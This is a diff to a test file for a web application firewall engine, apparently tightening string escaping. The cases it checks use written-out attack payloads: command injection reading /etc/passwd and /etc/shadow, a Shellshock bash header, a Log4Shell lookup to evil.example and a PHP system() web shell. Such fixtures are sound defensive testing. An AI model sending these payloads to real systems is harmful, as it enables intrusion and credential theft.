@@ -43,7 +43,7 @@ describe('WAF engine: attacks are stopped at sensitivity 70', () => {
   it.each([
     ['a chained command', get('/ping?host=127.0.0.1;cat%20/etc/passwd')],
     ['command substitution', get('/ping?host=$(whoami)')],
-    ['IFS instead of spaces', get('/ping?host=1%7Ccat${IFS}/etc/passwd')],
+    ['IFS instead of spaces', get('/ping?host=1%7Ccat%24%7BIFS%7D/etc/passwd')],
     ['quotes inside the command word', get("/ping?host=1;c'a't%20/etc/shadow")],
     ['Shellshock in the User-Agent', get('/', { 'user-agent': '() { :; }; /bin/bash -c "id"' })],
     ['a Windows command', get('/ping?host=x%26%20ipconfig%20/all')],
@@ -82,7 +82,7 @@ describe('WAF engine: attacks are stopped at sensitivity 70', () => {
   it.each([
     [
       'Log4Shell',
-      get('/', { 'user-agent': 'Mozilla/5.0', 'x-api-version': '${jndi:ldap://evil.example/a}' }),
+      get('/', { 'user-agent': 'Mozilla/5.0', 'x-api-version': `\${jndi:ldap://evil.example/a}` }),
       'java_injection',
     ],
     ['PHP code', form('cmd=<?php system($_GET["c"]); ?>'), 'php_injection'],
